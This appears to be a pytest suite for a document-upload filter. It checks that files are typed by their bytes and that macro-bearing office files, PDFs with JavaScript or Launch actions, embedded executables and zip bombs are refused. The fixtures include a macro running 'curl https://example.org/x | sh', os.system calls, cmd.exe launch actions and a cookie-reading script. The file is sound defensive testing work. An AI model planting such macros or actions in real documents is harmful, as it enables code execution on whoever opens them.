"""The type of an upload is decided by its bytes, never by its name."""

from __future__ import annotations

import io
import os

import pypdf
import pytest

from intake import filetypes
from tests.intake import samples


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (samples.MINIMAL_PDF, filetypes.PDF),
        (samples.ooxml("docx"), filetypes.DOCX),
        (samples.ooxml("xlsx"), filetypes.XLSX),
        (samples.ooxml("pptx"), filetypes.PPTX),
        (samples.opendocument("application/vnd.oasis.opendocument.text"), filetypes.ODT),
        (samples.opendocument("application/vnd.oasis.opendocument.spreadsheet"), filetypes.ODS),
        (samples.opendocument("application/vnd.oasis.opendocument.presentation"), filetypes.ODP),
        (samples.ole2("WordDocument", "1Table"), filetypes.DOC),
        (samples.ole2("Workbook"), filetypes.XLS),
        (samples.ole2("PowerPoint Document", "Current User"), filetypes.PPT),
    ],
    ids=["pdf", "docx", "xlsx", "pptx", "odt", "ods", "odp", "doc", "xls", "ppt"],
)
def test_sniff_accepted_kind(data: bytes, expected: filetypes.FileKind) -> None:
    assert filetypes.sniff(data) == expected


def test_sniff_canonical_content_type_and_extension() -> None:
    kind = filetypes.sniff(samples.ooxml("docx"))

    assert kind is not None
    assert (kind.content_type, kind.extension) == (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "docx",
    )


@pytest.mark.parametrize(
    "data",
    [
        b"",
        samples.HTML,
        samples.EXE,
        b"just some text, named report.pdf",
        b" %PDF-1.4 preceded by a space",
        samples.zip_of({"readme.txt": b"hello", "setup.exe": samples.EXE}),
        samples.zip_of({"[Content_Types].xml": b"<Types/>", "other/thing.xml": b"<x/>"}),
        samples.opendocument("application/x-shockwave-flash"),
        samples.ooxml("docx", main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        samples.zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<d/>", "word/vbaProject.bin": b""}),
        samples.ole2("WordDocument", "Macros"),
        samples.ole2("\x05SummaryInformation", "MsiFileHashes"),
        samples.ole2("WordDocument")[:600],
        bytes.fromhex("D0CF11E0A1B11AE1") + b"\x00" * 10,
        b"PK\x03\x04 truncated zip",
    ],
    ids=[
        "empty",
        "html",
        "exe",
        "text",
        "pdf-not-at-start",
        "plain-zip",
        "ooxml-without-main-part",
        "odf-unknown-mimetype",
        "docm-macros",
        "vba-project",
        "doc-macros",
        "msi-installer",
        "truncated-ole2",
        "ole2-header-only",
        "truncated-zip",
    ],
)
def test_sniff_refuses(data: bytes) -> None:
    assert filetypes.sniff(data) is None


def test_sniff_reads_an_entry_only_to_its_bound() -> None:
    # A "mimetype" entry of 900 kB, below the size where a high ratio matters: only its first bytes are read.
    padded = samples.zip_of({"mimetype": b"application/vnd.oasis.opendocument.text" + b" " * 900_000})

    assert filetypes.sniff(padded) == filetypes.ODT


def test_sniff_refuses_an_encrypted_entry() -> None:
    data = bytearray(samples.opendocument("application/vnd.oasis.opendocument.text"))
    # Set the "encrypted" flag of the first entry in the central directory.
    data[data.find(b"PK\x01\x02") + 8] |= 1

    assert filetypes.sniff(bytes(data)) is None


# --- Active content and archives out of proportion -----------------------------------------

ODT_TYPE = "application/vnd.oasis.opendocument.text"
BASIC_MODULE = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" '
    b'script:language="StarBasic">'
    b'Sub Main\n  Shell("curl https://example.org/x | sh")\nEnd Sub</script:module>'
)
EVENT_CONTENT = (
    b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    b'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><office:scripts><office:event-listeners>'
    b'<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
    b'xlink:href="vnd.sun.star.script:pythonSamples|TableSample.py$createTable?language=Python&amp;location=share"/>'
    b"</office:event-listeners></office:scripts></office:document-content>"
)
JAVASCRIPT_ACTION = b"<</S/JavaScript/JS(app.alert(document.cookie))>>"


@pytest.mark.parametrize(
    "data",
    [
        samples.opendocument(
            ODT_TYPE,
            parts={"Basic/Standard/Module1.xml": BASIC_MODULE, "Basic/Standard/script-lb.xml": b"<library/>"},
        ),
        samples.opendocument(ODT_TYPE, parts={"Scripts/python/macro.py": b"import os\nos.system('id')\n"}),
        samples.opendocument(ODT_TYPE, parts={"Object 1/Basic/Standard/Module1.xml": BASIC_MODULE}),
        samples.opendocument(ODT_TYPE, content=EVENT_CONTENT),
        samples.ooxml("docx", parts={"word/vbaProject.bin": samples.ole2("VBA", "PROJECT")}),
        samples.ooxml("docx", parts={"word/vbaData.xml": b"<wne:vbaSuppData/>"}),
        samples.ooxml(
            "docx",
            overrides={"/word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"},
            parts={"word/activeX/activeX1.xml": b"<ax:ocx/>", "word/activeX/activeX1.bin": b"\x00"},
        ),
        samples.ooxml(
            "xlsx",
            overrides={"/xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"},
            parts={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"},
        ),
        samples.ooxml("xlsx", main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        samples.ole2("Workbook", "_VBA_PROJECT_CUR"),
    ],
    ids=[
        "odt-basic",
        "odt-python-script",
        "odt-basic-in-embedded-object",
        "odt-event-bound-to-a-script",
        "docx-vba-project",
        "docx-vba-data",
        "docx-activex",
        "xlsx-excel4-macro-sheet",
        "xlsm-content-type",
        "xls-vba",
    ],
)
def test_identify_refuses_macros(data: bytes) -> None:
    with pytest.raises(filetypes.Refused) as refused:
        filetypes.identify(data)

    assert refused.value.message == filetypes.MACROS


def test_identify_refuses_a_script_declared_only_in_the_manifest() -> None:
    # The manifest names a Basic library that the archive holds under no such entry name.
    scripted = samples.zip_of(
        {
            "mimetype": ODT_TYPE.encode(),
            "content.xml": b"<office:document-content/>",
            "META-INF/manifest.xml": b'<manifest:manifest><manifest:file-entry manifest:full-path="Basic/Standard/'
            b'Module1.xml" manifest:media-type="text/xml"/></manifest:manifest>',
        }
    )

    with pytest.raises(filetypes.Refused) as refused:
        filetypes.identify(scripted)

    assert refused.value.message == filetypes.MACROS


@pytest.mark.parametrize(
    "data",
    [
        samples.pdf(catalog=b"/Names<</JavaScript 4 0 R>>", objects=(b"<</Names[(run) 5 0 R]>>", JAVASCRIPT_ACTION)),
        samples.pdf(catalog=b"/OpenAction 4 0 R", objects=(b"<</S/URI/URI(https://example.org/)>>",)),
        samples.pdf(catalog=b"/OpenAction<</S/JavaScript/JS 4 0 R>>", objects=(b"(app.alert(1))",)),
        samples.pdf(objects=(b"<</Type/Annot/Subtype/Widget/AA<</K 5 0 R>>>>", b"<</S/Named/N/Print>>")),
        samples.pdf(catalog=b"/OpenAction 4 0 R", objects=(b"<</S/Launch/F(cmd.exe)>>",)),
        samples.pdf(
            catalog=b"/Names<</EmbeddedFiles 4 0 R>>",
            objects=(
                b"<</Names[(invoice.exe) 5 0 R]>>",
                b"<</Type/Filespec/F(invoice.exe)/EF<</F 6 0 R>>>>",
                b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream",
            ),
        ),
        samples.pdf(catalog=b"/Names<</J#61vaScript 4 0 R>>", objects=(b"<</Names[(run) 5 0 R]>>", b"<<>>")),
        samples.pdf(catalog=b"/OpenAction 4 0 R", compressed=(JAVASCRIPT_ACTION,)),
        samples.pdf(compressed=(b"<</Type/Annot/Subtype/Link/A<</S/Launch/F(calc.exe)>>>>",)),
    ],
    ids=[
        "javascript-name-tree",
        "open-action",
        "open-action-javascript-inline",
        "additional-actions",
        "launch",
        "embedded-file",
        "hex-escaped-name",
        "javascript-in-object-stream",
        "launch-in-object-stream",
    ],
)
def test_identify_refuses_pdf_active_content(data: bytes) -> None:
    with pytest.raises(filetypes.Refused) as refused:
        filetypes.identify(data)

    assert refused.value.message == filetypes.PDF_ACTIVE_CONTENT


@pytest.mark.parametrize(
    "data",
    [
        samples.MINIMAL_PDF,
        samples.pdf(),
        samples.pdf(catalog=b"/OpenAction[3 0 R/Fit]"),
        samples.pdf(compressed=(b"<</Title(Plan)/Author(Applicant)>>",)),
        # Image bytes that happen to read "/JS " stay inside their stream.
        samples.pdf(objects=(b"<</Type/XObject/Subtype/Image/Length 8>>stream\n\x00/JS /AA\nendstream",)),
    ],
    ids=["minimal", "one-page", "open-at-a-destination", "object-stream", "stream-bytes-like-names"],
)
def test_identify_accepts_a_pdf_without_active_content(data: bytes) -> None:
    assert filetypes.identify(data) == filetypes.PDF


def test_identify_refuses_a_pdf_locked_by_a_password() -> None:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(612, 792)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)

    with pytest.raises(filetypes.Refused) as refused:
        filetypes.identify(buffer.getvalue())

    assert refused.value.message == filetypes.PDF_ENCRYPTED


def test_identify_accepts_a_pdf_restricted_only_by_an_owner_password() -> None:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(612, 792)
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)

    assert filetypes.identify(buffer.getvalue()) == filetypes.PDF


def test_identify_refuses_a_pdf_it_cannot_read_that_has_object_streams() -> None:
    # The cross-reference is cut off: object streams could hide anything from the byte scan.
    data = samples.pdf(compressed=(b"<</Title(Plan)>>",))
    damaged = data[: data.rfind(b"startxref")]

    with pytest.raises(filetypes.Refused) as refused:
        filetypes.identify(damaged)

    assert refused.value.message == filetypes.PDF_UNREADABLE


def test_identify_refuses_a_zip_bomb_shaped_as_docx() -> None:
    bomb = samples.ooxml("docx", parts={"word/media/image1.png": b"\x00" * (40 * 1024 * 1024)})
    assert len(bomb) < 100_000

    with pytest.raises(filetypes.Refused) as refused:
        filetypes.identify(bomb)

    assert refused.value.message == filetypes.OUT_OF_PROPORTION


def test_identify_refuses_a_mimetype_bomb() -> None:
    bomb = samples.zip_of({"mimetype": b"application/vnd.oasis.opendocument.text" + b" " * 50_000_000})

    with pytest.raises(filetypes.Refused) as refused:
        filetypes.identify(bomb)

    assert refused.value.message == filetypes.OUT_OF_PROPORTION


def test_identify_refuses_an_archive_too_large_once_expanded(monkeypatch: pytest.MonkeyPatch) -> None:
    # Incompressible content: the ratio is about 1, only the total is out of bounds.
    monkeypatch.setattr(filetypes, "MAX_ZIP_EXPANDED_BYTES", 2 * 1024 * 1024)
    large = samples.ooxml("docx", parts={"word/media/image1.png": os.urandom(3 * 1024 * 1024)})

    with pytest.raises(filetypes.Refused) as refused:
        filetypes.identify(large)

    assert refused.value.message == filetypes.OUT_OF_PROPORTION


def test_identify_accepts_a_docx_with_a_large_photo() -> None:
    photo = samples.ooxml("docx", parts={"word/media/image1.jpeg": os.urandom(3 * 1024 * 1024)})

    assert filetypes.identify(photo) == filetypes.DOCX


def test_identify_refuses_too_many_entries() -> None:
    crowded = samples.ooxml("docx", parts={f"word/part{number}.xml": b"" for number in range(10_000)})

    with pytest.raises(filetypes.Refused) as refused:
        filetypes.identify(crowded)

    assert (
        refused.value.message
        == "This document holds more than 10,000 parts, far more than a real document does, so we cannot accept it."
    )


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (
            samples.opendocument(
                ODT_TYPE, content=b"<office:document-content>Basic training, scripts.</office:document-content>"
            ),
            filetypes.ODT,
        ),
        (samples.ooxml("docx", parts={"word/media/image1.png": b"\x89PNG"}), filetypes.DOCX),
    ],
    ids=["odt-mentioning-basic-and-scripts", "docx-with-media"],
)
def test_identify_accepts_clean_documents(data: bytes, expected: filetypes.FileKind) -> None:
    assert filetypes.identify(data) == expected


def test_identify_explains_a_file_that_is_not_a_document() -> None:
    with pytest.raises(filetypes.Refused) as refused:
        filetypes.identify(samples.HTML)

    assert refused.value.message.startswith(
        "This file is not a document we accept, whatever its name says. Accepted: PDF"
    )


def test_inspect_hands_over_the_reader_that_checked_a_pdf_for_its_pages_and_text() -> None:
    from intake import extraction
    from intake.pagecount import pdf_pages
    from tests.intake.test_search_documents import pdf_with_text

    data = pdf_with_text("Plan de travail")

    inspected = filetypes.inspect(data)

    assert inspected.kind == filetypes.PDF
    assert inspected.pdf is not None
    assert pdf_pages(data, reader=inspected.pdf) == pdf_pages(data) == 1
    assert (
        extraction.document_text(data, content_type=filetypes.PDF.content_type, pdf=inspected.pdf)
        == extraction.document_text(data, content_type=filetypes.PDF.content_type)
        == "Plan de travail"
    )


def test_inspect_gives_no_reader_for_another_kind_nor_for_a_pdf_pypdf_cannot_read() -> None:
    assert filetypes.inspect(samples.ooxml("docx")) == filetypes.Inspected(filetypes.DOCX)
    # No object stream and no encryption: accepted on the byte scan alone, as before.
    assert filetypes.inspect(b"%PDF-1.4 damaged") == filetypes.Inspected(filetypes.PDF)


def test_inspect_decrypts_a_pdf_restricted_only_by_an_owner_password_for_its_readers() -> None:
    from intake.pagecount import pdf_pages

    writer = pypdf.PdfWriter()
    writer.add_blank_page(612, 792)
    writer.add_blank_page(612, 792)
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)

    inspected = filetypes.inspect(buffer.getvalue())

    assert inspected.pdf is not None
    assert pdf_pages(buffer.getvalue(), reader=inspected.pdf) == pdf_pages(buffer.getvalue()) == 2
